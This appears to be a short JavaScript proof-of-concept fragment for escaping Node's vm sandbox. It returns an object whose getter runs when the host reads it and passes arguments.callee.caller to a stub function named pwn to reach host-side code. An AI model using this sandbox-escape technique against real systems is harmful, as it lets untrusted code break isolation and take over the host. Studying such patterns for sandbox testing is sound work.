// Node vm: a getter on the result runs when the host reads it
({ get x() { try { pwn(arguments.callee.caller) } catch (e) {} return 1 } })
